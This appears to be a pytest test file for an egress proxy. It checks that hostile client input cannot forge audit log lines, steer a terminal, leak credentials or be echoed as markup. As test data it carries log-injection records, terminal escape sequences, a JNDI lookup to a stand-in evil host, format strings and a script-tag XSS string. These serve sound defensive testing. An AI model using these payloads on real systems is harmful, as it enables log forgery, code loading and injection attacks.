"""What an attacker writes into logs and answers: THREATS.md section 1H, rows T76 to
T78. One attempt stays one line, whatever bytes it is made of, and nothing that a client chose comes
back in an answer."""
import json
import os
import pty
import re

import pytest

from decoy import Trial
from hello import hello
from lab import wait_until
from origins import Origin
from wire import Wire, parse_answer

pytestmark = [pytest.mark.attack]

ALLOWED, DENIED = "www.allowed.example", "www.evil.example"
POLICY = """
    timeouts: {header: 2s, client_hello: 1s, connect: 3s, drain: 1s}
    rules:
      - {name: ours, hosts: ["*.allowed.example"]}
      - {name: loopback, hosts: ["127.0.0.1", "[::1]"], ports: [1-65535]}
"""


@pytest.fixture(scope="module")
def trial(lab):
    with Trial(lab, POLICY) as trial, Origin(lab) as origin:
        trial.names.set(ALLOWED, origin.address)
        trial.names.set("rebound.allowed.example", "127.0.0.1", "::1")
        trial.front = origin
        yield trial


FORGED = b'{"schema":1,"event":"connect","decision":"allow","host":"forged.example"}'
T76 = {
    "LF and a record": b"x\n" + FORGED + b"\n",
    "CR LF and a record": b"x\r\n" + FORGED + b"\r\n",
    "CR": b"x\rforged",
    "NUL": b"x\0forged",
    "a quote that ends the string": b'x","decision":"allow","rule":"ours',
    "a brace that ends the record": b'x"}\n' + FORGED,
    "a backslash": b"x\\",
    "an escape of LF": b"x\\n\\u000a" + FORGED,
    "colours": b"\x1b[31mx\x1b[0m",
    "clear screen": b"\x1b[2J\x1b[H",
    "window title": b"\x1b]0;pwned\x07",
    "clipboard": b"\x1b]52;c;cHduZWQ=\x07",
    "hyperlink": b"\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "8-bit CSI": b"\x9b31mx",
    "8-bit CSI in UTF-8": "\u009b31mx".encode(),
    "next line": "x\u0085forged".encode(),
    "line separator": "x\u2028forged".encode(),
    "paragraph separator": "x\u2029forged".encode(),
    "right to left": "x\u202egpj.exe".encode(),
    "zero width": "x\u200b\ufeffy".encode(),
    "backspaces": b"allowed\x08\x08\x08\x08\x08\x08\x08denied",
    "bell": b"x\x07",
    "tab and vertical tab": b"x\ty\x0bz",
    "DEL": b"x\x7f",
    "a lone byte": b"x\xff",
    "overlong": b"x\xc0\x8a",
    "a surrogate": b"x\xed\xa0\x80",
    "cut UTF-8": b"x\xe2\x82",
    "formats": b"%s%n%x${jndi:ldap://evil.example/a}{{7*7}}",
    "60 KiB": b"A" * 60_000,
}
# Controls of C0 and C1, DEL, and what ends a line for some reader.
NOT_IN_A_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


@pytest.mark.parametrize("payload", T76)
def test_t76_an_attempt_is_one_line_whatever_it_says(trial, payload):
    """The payload stands in the hello's name, in its ALPN, in a header and in a path."""
    bytes_of = T76[payload]
    trial.records.none_is_left()
    size_before = os.path.getsize(trial.gate.audit) if os.path.exists(trial.gate.audit) else 0
    named = hello(bytes_of[:8_000], alpn=("h2", bytes_of[:200].decode("latin-1")))
    attempts = [
        f"CONNECT {ALLOWED}:443 HTTP/1.1\r\n\r\n".encode() + named,
        f"CONNECT {DENIED}:443 HTTP/1.1\r\nUser-Agent: ".encode() + bytes_of + b"\r\n\r\n",
        f"GET http://{DENIED}/".encode() + bytes_of + b" HTTP/1.1\r\n\r\n",
        b"CONNECT " + bytes_of + b":443 HTTP/1.1\r\n\r\n",
        bytes_of + b" http://x/ HTTP/1.1\r\n\r\n",
    ]
    for sent in attempts:
        with Wire(trial.gate) as wire:
            wire.send(sent)
            try:
                wire.rest()
            except ConnectionResetError:
                pass
        trial.records.next(decision="block")
    trial.records.none_is_left()
    with open(trial.gate.audit, "rb") as file:
        file.seek(size_before)
        lines = file.read().decode("utf-8").split("\n")
    assert len(lines) == len(attempts) + 1 and lines[-1] == ""
    for line in lines[:-1]:
        assert not NOT_IN_A_LINE.search(line), ascii(line)
        assert len(line) < 4096 and json.loads(line)["decision"] == "block"
    for line in trial.gate.stderr().split("\n"):
        assert not NOT_IN_A_LINE.search(line), ascii(line)
    trial.untouched()


def test_t76_a_terminal_gets_no_byte_that_steers_it(make_gate, lab):
    controller, terminal = pty.openpty()
    gate = make_gate(
        "audit: {path: stdout}\nrules: [{name: r, hosts: [a.example]}]", stdout=terminal
    )
    os.close(terminal)
    os.set_blocking(controller, False)
    for number, payload in enumerate(T76.values()):
        for sent in (
            f"GET http://t{number}.example/".encode() + payload[:2000] + b" HTTP/1.1\r\n\r\n",
            b"CONNECT t.example:443 HTTP/1.1\r\nA: " + payload[:2000] + b"\r\n\r\n",
        ):
            with Wire(gate) as wire:
                try:
                    wire.send(sent).rest()
                except ConnectionResetError:
                    pass
    text = b""

    def told():
        nonlocal text
        try:
            text += os.read(controller, 1 << 16)
        except BlockingIOError:
            pass
        return text.count(b"\r\n") >= 2 * len(T76)

    wait_until(told, 5, "a line for each attempt")
    plain = re.sub(rb"\x1b\[(31|33|0)m", b"", text)  # the gate's own colours
    assert not NOT_IN_A_LINE.search(plain.replace(b"\r\n", b"").decode("utf-8"))
    assert text.count(b"\r\n") == 2 * len(T76)
    gate.stop()
    os.close(controller)


SECRET = "c2VjcmV0" + "dG9rZW4x"
T77 = {
    "Proxy-Authorization": f"CONNECT {DENIED}:443 HTTP/1.1\r\nProxy-Authorization: Basic {SECRET}",
    "Authorization": f"CONNECT {DENIED}:443 HTTP/1.1\r\nAuthorization: Bearer {SECRET}",
    "SigV4": f"CONNECT {DENIED}:443 HTTP/1.1\r\nAuthorization: AWS4-HMAC-SHA256 Signature={SECRET}",
    "a session token": f"CONNECT {DENIED}:443 HTTP/1.1\r\nX-Amz-Security-Token: {SECRET}",
    "a cookie": f"CONNECT {DENIED}:443 HTTP/1.1\r\nCookie: session={SECRET}",
    "userinfo": f"CONNECT user:{SECRET}@{DENIED}:443 HTTP/1.1",
    "a query of a CONNECT": f"CONNECT {DENIED}:443?token={SECRET} HTTP/1.1",
    "a presigned query": f"GET http://{DENIED}/?X-Amz-Signature={SECRET} HTTP/1.0",
    "userinfo of a URL": f"GET http://u:{SECRET}@{DENIED}/ HTTP/1.1\r\nHost: {DENIED}",
    "a query of https": f"GET https://{DENIED}/?t={SECRET} HTTP/1.1\r\nHost: {DENIED}",
    "a fragment": f"GET http://{DENIED}/#{SECRET} HTTP/1.1\r\nHost: {DENIED}",
    "a folded field": f"CONNECT {DENIED}:443 HTTP/1.1\r\nA: b\r\n {SECRET}",
    "a field's name": f"CONNECT {DENIED}:443 HTTP/1.1\r\n{SECRET}: x",
    "a body": f"POST http://{DENIED}/ HTTP/1.1\r\nHost: {DENIED}\r\n"
    f"Content-Length: 16\r\n\r\n{SECRET}",
}


@pytest.mark.parametrize("place", T77)
def test_t77_no_secret_reaches_a_log_a_metric_or_the_answer(trial, place):
    trial.records.none_is_left()
    with Wire(trial.gate) as wire:
        answer = wire.send(T77[place].encode() + b"\r\n\r\n").rest()
    trial.records.next(decision="block")
    with open(trial.gate.audit, encoding="utf-8") as file:
        logged = file.read() + trial.gate.stderr() + trial.gate.get("/metrics")[1]
    assert SECRET not in logged and SECRET.encode() not in answer


MARKUP = "<script>alert(1)</script>'\"&"
EVERYWHERE = f"User-Agent: {MARKUP}\r\nReferer: {MARKUP}\r\nCookie: {MARKUP}\r\nX: {MARKUP}\r\n"
T78 = {
    "host_not_allowed": (f"CONNECT {DENIED}:443 HTTP/1.1", 403),
    "invalid_host": (f"CONNECT {MARKUP}:443 HTTP/1.1", 400),
    "invalid_host ": (f"CONNECT {DENIED}:{MARKUP} HTTP/1.1", 400),
    "address_literal": ("CONNECT 52.94.77.66:443 HTTP/1.1", 403),
    "destination_forbidden": ("CONNECT 127.0.0.1:22 HTTP/1.1", 403),
    "destination_forbidden ": ("CONNECT rebound.allowed.example:443 HTTP/1.1", 403),
    "port_not_allowed": (f"CONNECT {ALLOWED}:22 HTTP/1.1", 403),
    "malformed_request": (f"CONNECT {DENIED}:443 HTTP/1.1\r\n{MARKUP}", 400),
    "malformed_request ": (f"{MARKUP} / HTTP/1.1", 400),
    "malformed_request  ": (f"GET {MARKUP} HTTP/1.1", 400),
    "header_too_large": (f"CONNECT {DENIED}:443 HTTP/1.1\r\nA: {MARKUP * 3000}", 431),
    "scheme_not_allowed": (
        f"GET http://{ALLOWED}/{MARKUP}?{MARKUP} HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close",
        403,
    ),
    "host_mismatch": (f"GET http://{DENIED}/ HTTP/1.1\r\nHost: {ALLOWED}", 421),
}


@pytest.mark.parametrize("denial", T78)
def test_t78_an_answer_repeats_nothing_but_the_canonical_host(trial, denial):
    line, status = T78[denial]
    trial.records.none_is_left()
    with Wire(trial.gate) as wire:
        try:
            wire.send(f"{line}\r\n{EVERYWHERE}\r\n".encode())
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = parse_answer(wire.rest())
    trial.records.next(decision="block", reason=denial.strip(), status=status)
    told = answer.phrase + answer.body + str(answer.headers)
    assert answer.status == status
    assert not set("<>&") & set(told) and "alert" not in told and "script" not in told
    assert answer.headers["content-type"].startswith("text/plain") and len(answer.body) < 512
